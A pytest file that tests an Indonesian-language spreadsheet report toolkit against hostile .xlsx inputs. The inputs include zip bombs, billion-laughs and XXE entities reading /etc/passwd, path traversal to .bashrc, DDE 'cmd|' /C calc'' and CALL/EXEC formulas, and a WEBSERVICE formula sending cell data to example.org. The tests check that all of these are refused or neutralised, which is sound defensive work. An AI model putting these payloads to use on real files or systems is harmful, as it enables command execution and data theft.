"""Whole runs on a report that somebody made to do harm: refused with the limit named, or read as if nothing were."""

import contextlib
import datetime as dt
import io
import json
import re
import shutil
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.cli.jalankan import EXAMPLE
from tests.ooxml.archives import archive, changed, parts_of, swap
from toolkit import machine, pipeline
from toolkit.errors import ToolkitError
from toolkit.model.temuan import Tingkat
from toolkit.ooxml.guards import package_of
from toolkit.ooxml.rawzip import MAX_PARTS, MAX_UNPACKED, pack, write_entries
from toolkit.ooxml.refusal import Refusal, RefusedError

DATA = EXAMPLE.read_bytes()
PARTS = parts_of(DATA)
PART = {sheet.name: sheet.part or "" for sheet in package_of(DATA).sheets}
REALISASI, ANGGARAN = PART["Realisasi"], PART["Anggaran"]
PAGI = dt.datetime(2026, 1, 15, 8, 30, tzinfo=dt.UTC)

Make = Callable[[], bytes]


def in_part(part: str, old: bytes, new: bytes) -> bytes:
    """The example with a text of one part replaced, at its first place."""
    assert old in PARTS[part], old
    return changed(DATA, {part: lambda data: data.replace(old, new, 1)})


def with_rows(rows: bytes, part: str = REALISASI) -> bytes:
    return in_part(part, b"</sheetData>", rows + b"</sheetData>")


def examined(data: bytes, folder: Path) -> pipeline.Pemeriksaan:
    path = folder / "laporan.xlsx"
    path.write_bytes(data)
    try:
        return pipeline.examine(path)
    finally:
        assert path.read_bytes() == data


def as_json(pemeriksaan: pipeline.Pemeriksaan) -> str:
    return machine.dumps(machine.to_object(pemeriksaan.hasil, pemeriksaan.temuan, "laporan.xlsx"))


PLAIN = as_json(pipeline.examine(EXAMPLE)).replace(EXAMPLE.name, "laporan.xlsx")
INDIKATOR: str = json.loads(PLAIN)["indikator"][0]["uraian"]
"""A text that stands in the input and in the results."""


def zip_in_zip() -> bytes:
    inner = archive({"a": bytes(20 << 20)})
    for _ in range(3):
        inner = archive({f"{n}.zip": inner for n in range(16)})
    return archive({**PARTS, "xl/media/bersarang.zip": inner})


def a_million_entries() -> bytes:
    central = write_entries([pack("a", b"")])
    one = central[central.index(b"PK\1\2"):central.rindex(b"PK\5\6")]
    end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 0xFFFF, 0xFFFF, 1_000_000 * len(one), 0, 0)
    return DATA[:30] + one * 1_000_000 + end


def too_much_unpacked() -> bytes:
    """Seventy parts of 31 MB each: below the size from which the ratio counts, together beyond the limit."""
    part = pack("a", bytes(31 << 20))
    many = [pack(f"xl/media/{n}.bin", b"") for n in range(MAX_UNPACKED // (31 << 20) + 1)]
    fat = [type(part)(e.name, e.raw_name, e.flags, part.method, part.stamp, part.crc, part.size, part.packed)
           for e in many]
    return write_entries([*package_of(DATA).entries, *fat])


def doctype_in_a_sheet() -> bytes:
    laughs = b"".join(b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 12))
    return in_part(REALISASI, b"<worksheet", b'<!DOCTYPE x [<!ENTITY a0 "ha">' + laughs + b"]><worksheet")


def a_file_from_outside() -> bytes:
    return in_part("xl/sharedStrings.xml", b"<sst", b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><sst')


def deep_nesting() -> bytes:
    return in_part(REALISASI, b"</sheetData>", b"</sheetData>" + b"<a>" * 9000 + b"</a>" * 9000)


def a_giant_sheet() -> bytes:
    row = b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>isi nomor %d</t></is></c></row>'
    return with_rows(b"".join(row % (n, n, n * 7919) for n in range(1000, 1_048_000)))


def one_giant_text() -> bytes:
    return with_rows(b'<row r="900"><c r="A900" t="inlineStr"><is><t>' + b"a1" * (6 << 20) + b"</t></is></c></row>")


def twin_names() -> bytes:
    return archive({**PARTS, REALISASI.upper(): PARTS[REALISASI]})


def climbing_name() -> bytes:
    return archive({**PARTS, "xl/../../../home/.bashrc": b"isi"})


def sheet_missing() -> bytes:
    return changed(DATA, {REALISASI: None})


REFUSED: list[tuple[Make, Refusal, str]] = [
    (a_million_entries, Refusal.TOO_MANY_PARTS, f"{MAX_PARTS:,}".replace(",", ".")),
    (too_much_unpacked, Refusal.UNPACKED_TOO_BIG, "2.048 MB"),
    (lambda: archive({**PARTS, "xl/media/bom.bin": bytes(40 << 20)}), Refusal.RATIO, "250 kali"),
    (doctype_in_a_sheet, Refusal.DOCTYPE, REALISASI),
    (a_file_from_outside, Refusal.DOCTYPE, "xl/sharedStrings.xml"),
    (deep_nesting, Refusal.PART_INVALID, REALISASI),
    (one_giant_text, Refusal.PART_INVALID, REALISASI),
    (a_giant_sheet, Refusal.XML_TOO_BIG, "64 MB"),
    (twin_names, Refusal.DUPLICATE, REALISASI.upper()),
    (climbing_name, Refusal.BAD_NAME, ".."),
    (lambda: in_part(REALISASI, b"<v>", b"<v>&#xD800;"), Refusal.PART_INVALID, REALISASI),
]


@pytest.mark.parametrize(("make", "reason", "named"), REFUSED,
                         ids=[getattr(make, "__name__", "").strip("<>") + f" {reason.name}"
                              for make, reason, _ in REFUSED])
def test_refused_with_the_limit_named(make: Make, reason: Refusal, named: str, tmp_path: Path) -> None:
    with pytest.raises(RefusedError) as caught:
        examined(make(), tmp_path)
    assert caught.value.reason is reason
    assert named in caught.value.pesan
    assert "laporan.xlsx" in caught.value.pesan


def a_million_styled_rows() -> bytes:
    return with_rows(b"".join(b'<row r="%d" s="3" customFormat="1"/>' % n for n in range(1000, 1_001_000)))


def a_million_styled_cells() -> bytes:
    row = b'<row r="%d"><c r="A%d" s="3"/><c r="B%d" s="3"></c><c r="C%d" s="3"><v></v></c></row>'
    return with_rows(b"".join(row % (n, n, n, n) for n in range(1000, 348_000)))


def a_claim_of_seventeen_billion_cells() -> bytes:
    return changed(DATA, {part: lambda data: re.sub(b'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"', data)
                          for part in PART.values()})


def relations_in_a_circle() -> bytes:
    rels = ('<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rIdX" Type="t" Target="{}"/></Relationships>')
    return archive({**PARTS, "xl/a.xml": b"<a/>", "xl/b.xml": b"<b/>",
                    "xl/_rels/a.xml.rels": rels.format("b.xml").encode(),
                    "xl/_rels/b.xml.rels": rels.format("a.xml").encode(),
                    "xl/_rels/sharedStrings.xml.rels": rels.format("workbook.xml").encode()})


def link_to_another_workbook() -> bytes:
    return archive({**parts_of(in_part(
        "xl/_rels/workbook.xml.rels", b"</Relationships>", b'<Relationship Id="rIdL" Type="http://schemas.openxml'
        b'formats.org/officeDocument/2006/relationships/externalLink" Target="externalLinks/externalLink1.xml"/>'
        b"</Relationships>")), "xl/externalLinks/externalLink1.xml": b"<externalLink/>",
        "xl/externalLinks/_rels/externalLink1.xml.rels": b'<Relationships xmlns="http://schemas.openxmlformats.org/'
        b'package/2006/relationships"><Relationship Id="rId1" Type="lain" Target="https://example.org/a.xlsx" '
        b'TargetMode="External"/></Relationships>'})


AS_IF_NOTHING_WERE: list[Make] = [zip_in_zip, a_million_styled_rows, a_million_styled_cells,
                                  a_claim_of_seventeen_billion_cells, relations_in_a_circle, link_to_another_workbook]


@pytest.mark.parametrize("make", AS_IF_NOTHING_WERE, ids=lambda make: make.__name__)
def test_read_as_if_nothing_were(make: Make, tmp_path: Path) -> None:
    assert as_json(examined(make(), tmp_path)) == PLAIN


def test_sixteen_thousand_columns(tmp_path: Path) -> None:
    """Every cell of the heading row, to Excel's last column, filled with words that are no heading."""
    letters = [a + b + c for a in " ABCDEFGHIJKLMNOPQRSTUVWXYZ" for b in " ABCDEFGHIJKLMNOPQRSTUVWXYZ"
               for c in "ABCDEFGHIJKLMNOPQRSTUVWXYZ" if b != " " or a == " "]
    columns = [name.strip() for name in letters][:16_384]
    cells = b"".join(b'<c r="%s4" t="inlineStr"><is><t>Kolom %d</t></is></c>' % (name.encode(), n)
                     for n, name in enumerate(columns) if n > 60)
    assert columns[-1] == "XFD"
    heading = re.search(rb'<row r="4".*?</row>', PARTS[REALISASI])
    assert heading
    data = in_part(REALISASI, heading[0], heading[0].replace(b"</row>", cells + b"</row>"))
    pemeriksaan = examined(data, tmp_path)
    assert pemeriksaan.hasil.laporan.realisasi
    assert len(pemeriksaan.temuan) < 1000


@pytest.mark.parametrize("part", sorted(set(PARTS)))
def test_a_part_that_is_missing(part: str, tmp_path: Path) -> None:
    """Any one part: read as far as it goes, or refused in words; never anything else."""
    with contextlib.suppress(ToolkitError):
        as_json(examined(changed(DATA, {part: None}), tmp_path))


def test_a_required_sheet_without_its_part_is_named(tmp_path: Path) -> None:
    with pytest.raises(ToolkitError, match="Realisasi"):
        examined(sheet_missing(), tmp_path)


@pytest.mark.parametrize(("written", "read"), [
    ("_xD800_", "\ufffd"), ("_xDC00__xD800_", "\ufffd\ufffd"), ("_xD83D__xDE00_", "\U0001f600"), ("_xFFFF_", "\ufffd"),
    ("_x0000_", ""), ("satu_x000B_dua", "satu dua"), ("_x0001__x001F_", ""),
])
def test_letters_that_no_text_may_hold(written: str, read: str, tmp_path: Path) -> None:
    """A text of the report with such letters comes through to JSON and into a workbook that opens again."""
    data = changed(DATA, {"xl/sharedStrings.xml": swap(INDIKATOR, f"{INDIKATOR} {written}")})
    pemeriksaan = examined(data, tmp_path)
    found = as_json(pemeriksaan)
    assert found.encode()
    assert json.loads(found)["indikator"][0]["uraian"] == f"{INDIKATOR} {read}".strip()
    path = tmp_path / "laporan.xlsx"
    pipeline.fill(path, pipeline.Tujuan(), sekarang=PAGI)
    again = pipeline.fill(path, pipeline.Tujuan(), sekarang=PAGI)
    assert not again.berubah


DANGEROUS = ("cmd|' /C calc'!A0", 'WEBSERVICE("https://example.org/?x="&amp;A1)', 'HYPERLINK("file:///C:/a.exe")',
             'CALL("Shell32","ShellExecuteA","JJCCCJ",0,"open","calc","",0)', "[1]Sheet1!A1", 'EXEC("calc")')


@pytest.mark.parametrize("formula", DANGEROUS)
def test_formulas_that_reach_outside_are_never_carried_over(formula: str, tmp_path: Path) -> None:
    """Their stored values are read; the formulas stay in the staff's cells, and in no result sheet."""
    number = re.search(rb'(<c r="[A-Z]+\d+"[^>]*>)(<v>\d+</v></c>)', PARTS[REALISASI])
    assert number
    data = in_part(REALISASI, number[0], number[1] + f"<f>{formula}</f>".encode() + number[2])
    path = tmp_path / "laporan.xlsx"
    path.write_bytes(data)
    pengisian = pipeline.fill(path, pipeline.Tujuan(), sekarang=PAGI)
    assert as_json(pengisian.pemeriksaan) == PLAIN
    after = package_of(path.read_bytes())
    assert after.read(REALISASI) == package_of(data).read(REALISASI)
    assert not any(word in f for f in _result_formulas(after)
                   for word in ("cmd", "WEBSERVICE", "HYPERLINK", "CALL", "[1]", "EXEC"))


def _result_formulas(package: object) -> list[str]:
    assert isinstance(package, type(package_of(DATA)))
    found: list[str] = []
    for sheet in package.sheets:
        if sheet.name not in PART and sheet.part:
            found += [f.decode() for f in re.findall(rb"<f>([^<]*)</f>", package.read(sheet.part))]
    assert found
    return found


@pytest.mark.parametrize("text", ["=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "@SUM(1)", "-2+3",
                                  "{=WEBSERVICE(1)}", "https://example.org/a.exe", "mailto:a@example.org"])
def test_text_that_looks_like_a_formula_stays_text(text: str, tmp_path: Path) -> None:
    path = tmp_path / "laporan.xlsx"
    path.write_bytes(changed(DATA, {"xl/sharedStrings.xml": swap(f"<t>{INDIKATOR}</t>", f"<t>{text}</t>")}))
    pipeline.fill(path, pipeline.Tujuan(), sekarang=PAGI)
    after = package_of(path.read_bytes())
    assert not any(text.strip("{=+@}") in formula for formula in _result_formulas(after))
    results = [sheet.part for sheet in after.sheets if sheet.name not in PART and sheet.part]
    assert any(text.encode() in after.read(part) for part in results)
    assert not any(relation.external for part in results for relation in after.relations(part))


def test_a_link_to_another_workbook_stays_the_staffs(tmp_path: Path) -> None:
    path = tmp_path / "laporan.xlsx"
    path.write_bytes(link_to_another_workbook())
    pipeline.fill(path, pipeline.Tujuan(), sekarang=PAGI)
    assert parts_of(path.read_bytes())["xl/externalLinks/externalLink1.xml"] == b"<externalLink/>"


def test_a_hostile_second_workbook_harms_neither(tmp_path: Path) -> None:
    """`--into` a workbook that is refused: both files as they were."""
    path, into = Path(shutil.copy(EXAMPLE, tmp_path / "laporan.xlsx")), tmp_path / "lain.xlsx"
    into.write_bytes(twin_names())
    before = into.read_bytes()
    with pytest.raises(ToolkitError, match=r"lain\.xlsx"):
        pipeline.fill(path, pipeline.Tujuan(into=into), sekarang=PAGI)
    assert (path.read_bytes(), into.read_bytes()) == (DATA, before)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["lain.xlsx", "laporan.xlsx"]


def test_a_damaged_part_is_passed_on_with_a_warning(tmp_path: Path) -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for name, data in PARTS.items():
            target.writestr(name, data)
        target.writestr("xl/media/foto.png", b"gambar asli")
    path = tmp_path / "laporan.xlsx"
    path.write_bytes(out.getvalue().replace(b"gambar asli", b"gambar aslo", 1))
    pengisian = pipeline.fill(path, pipeline.Tujuan(), sekarang=PAGI)
    assert pengisian.berubah
    (warning,) = pengisian.peringatan
    assert "xl/media/foto.png di laporan.xlsx sudah rusak sebelum hasil ditulis" in warning
    assert b"gambar aslo" in path.read_bytes()
    assert any(t.tingkat is Tingkat.KESALAHAN for t in pengisian.pemeriksaan.temuan)


@pytest.mark.parametrize("digits", ["1e308", "-1e308", "123456789012345678"])
def test_numbers_beyond_what_a_spreadsheet_holds(digits: str, tmp_path: Path) -> None:
    """Found by fuzzing: 1e308 came out as an infinity in the sums by which a later change of the input is told."""
    number = re.search(rb'(<c r="H5"[^>]*>)<v>[\d.]+</v>', PARTS[REALISASI])
    assert number
    path = tmp_path / "laporan.xlsx"
    path.write_bytes(in_part(REALISASI, number[0], number[1] + f"<v>{digits}</v>".encode()))
    pengisian = pipeline.fill(path, pipeline.Tujuan(), sekarang=PAGI)
    assert [str(t.sel) for t in pengisian.pemeriksaan.temuan if t.kode == "BCA070"] == ["Realisasi!H5"]
    assert json.loads(as_json(pengisian.pemeriksaan))["indikator"][0]["capaian"] is None
    after = package_of(path.read_bytes())
    assert not any(b"<v>inf" in after.read(part) or b"<v>-inf" in after.read(part) for part in after.parts)
